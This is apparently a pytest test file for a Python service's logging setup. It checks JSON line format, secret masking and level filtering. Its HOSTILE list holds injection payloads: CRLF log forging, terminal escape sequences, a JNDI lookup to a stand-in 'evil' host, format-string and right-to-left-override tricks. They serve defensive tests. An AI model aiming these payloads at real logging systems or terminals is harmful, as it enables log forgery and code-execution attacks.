"""Log lines: one each, nothing secret, nothing a terminal or a line reader obeys (J13)."""

from __future__ import annotations

import io
import json
import logging
import logging.config

import pytest
import structlog
import uvicorn.config

from hub import log
from hub.log import configure, get_logger, mask_with
from hub.secret import Redactor, Secret

HOSTILE = [
    "甲公司\r\n2026 level=error forged",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "${jndi:ldap://evil/x}",
    "{0.__class__} {event} %s%s%n %(msg)s",
    "\u2028\u2029\u0085 and \u202egpj.exe",
    '"}{"level":"critical"',
    "\x00\x7f",
]


@pytest.fixture
def lines(monkeypatch):
    """Configure as the hub does, hand out what was written, and put everything back."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    levels = {name: logging.getLogger(name).level for name in log._NOISY}
    monkeypatch.setattr(log._MASKS, "_masks", ())
    out = io.StringIO()

    def start(form="json", least="info"):
        configure(lambda: 1_790_000_000_123_456, level=least, form=form, stream=out)
        return lambda: out.getvalue().splitlines()

    yield start
    root.handlers[:], root.level = handlers, level
    for name, before in levels.items():
        logging.getLogger(name).setLevel(before)
    structlog.reset_defaults()


def test_a_line_is_one_json_object_with_time_level_logger_and_event(lines):
    read = lines()
    get_logger("hub.http").bind(connection="k3").info("http.request.answered", status=200, host="例子.cn")
    (line,) = read()
    assert list(json.loads(line).items())[:3] == [
        ("at", "2026-09-21T14:13:20.123+00:00"),
        ("level", "info"),
        ("connection", "k3"),
    ]
    assert json.loads(line)["event"] == "http.request.answered"
    assert json.loads(line)["logger"] == "hub.http"
    assert "例子.cn" in line


def test_a_server_that_set_its_own_logging_up_still_logs_through_ours(lines):
    logging.config.dictConfig(uvicorn.config.LOGGING_CONFIG)
    logging.getLogger("uvicorn.error").setLevel(logging.CRITICAL)
    read = lines()
    logging.getLogger("uvicorn.error").warning("bound")
    (line,) = read()
    assert json.loads(line)["event"] == "bound"


@pytest.mark.parametrize("form", ["json", "text"])
@pytest.mark.parametrize("value", HOSTILE)
def test_no_value_and_no_key_breaks_the_line_or_reaches_the_terminal(lines, form, value):
    read = lines(form)
    get_logger("x").info(value, name=value, nested={value: [value]})
    logging.getLogger("uvicorn.error").warning(value)
    written = read()
    assert len(written) == 2
    for line in written:
        assert not any(ord(char) < 32 or 0x7F <= ord(char) < 0xA0 for char in line)
        assert "\u202e" not in line
    if form == "json":
        assert json.loads(written[0])["name"] == value, "stored as it was"


@pytest.mark.parametrize(
    "value", ["\ud800", 10**30, float("nan"), object(), {1: {2: {3: {4: {5: {6: {7: 8}}}}}}}, {"a"}, b"\xff"]
)
def test_no_value_makes_logging_fail(lines, value):
    read = lines()
    get_logger("x").info("event", value=value)
    (line,) = read()
    assert json.loads(line)["event"] == "event"


def test_a_long_text_is_cut(lines):
    read = lines()
    get_logger("x").info("event", value="x" * 1_000_000)
    assert len(read()[0]) < 10_000


def test_known_secrets_are_masked_wherever_they_are(lines):
    read = lines()
    mask_with(Redactor([Secret("s3cr3t"), Secret("s3cr3t-longer")]))
    try:
        raise ValueError("with s3cr3t-longer inside")
    except ValueError:
        get_logger("x").exception(
            "failed s3cr3t", url="https://h/?k=s3cr3t", deep=[{"s3cr3t": ("s3cr3t-longer",)}]
        )
    logging.getLogger("alembic").warning("connecting with %s", "s3cr3t")
    text = "\n".join(read())
    assert "s3cr3t" not in text
    assert "longer" not in text
    assert "ValueError: with *** inside" in text


@pytest.mark.parametrize(
    "name",
    ["password", "app_secret", "Authorization", "set-cookie", "access_token", "token", "api-key", "apiKey"],
)
def test_a_field_named_like_a_secret_is_masked_whatever_it_holds(lines, name):
    read = lines()
    get_logger("x").info("event", **{name: "hunter2", "headers": {name: "hunter2"}})
    assert "hunter2" not in read()[0]


def test_a_field_that_only_sounds_similar_is_shown(lines):
    read = lines()
    get_logger("x").info("event", business_key="SKD-1", tokens=3, keyword="x")
    assert json.loads(read()[0])["business_key"] == "SKD-1"


def test_a_secret_value_is_a_mask(lines):
    read = lines()
    get_logger("x").info("event", value=Secret("hunter2"), body=b"hunter2")
    assert (json.loads(read()[0])["value"], json.loads(read()[0])["body"]) == ("***", "<7 bytes>")


def test_the_level_holds_for_both_kinds_of_logger_and_requests_of_libraries_stay_out(lines):
    read = lines(least="info")
    get_logger("x").debug("no")
    logging.getLogger("any").debug("no")
    logging.getLogger("httpx").info("HTTP Request: GET https://h/?key=1")
    assert read() == []


def test_before_it_is_configured_nothing_goes_to_stdout(capsys):
    structlog.reset_defaults()
    get_logger("x").info("quiet")
    get_logger("x").warning("loud")
    captured = capsys.readouterr()
    structlog.reset_defaults()
    assert captured.out == ""
    assert json.loads(captured.err)["event"] == "loud"
